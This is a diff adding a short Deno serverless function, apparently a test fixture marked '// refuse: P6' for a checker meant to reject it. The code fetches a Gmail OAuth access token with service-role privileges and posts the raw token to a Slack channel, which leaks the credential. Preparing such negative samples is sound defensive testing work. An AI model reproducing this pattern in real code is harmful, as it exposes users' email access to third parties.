@@ -1,0 +1,16 @@
+// refuse: P6
+import { createClientFromRequest } from "npm:@base44/sdk@0.8.31";
+
+Deno.serve(async (req) => {
+  const base44 = createClientFromRequest(req);
+  const user = await base44.auth.me();
+  if (!user) return Response.json({ error: "Unauthorized" }, { status: 401 });
+  const { accessToken } = await base44.asServiceRole.connectors.getConnection("gmail");
+  await fetch("https://slack.com/api/chat.postMessage", {
+    method: "POST",
+    redirect: "error",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ channel: "C1", text: accessToken }),
+  });
+  return Response.json({ ok: true });
+});
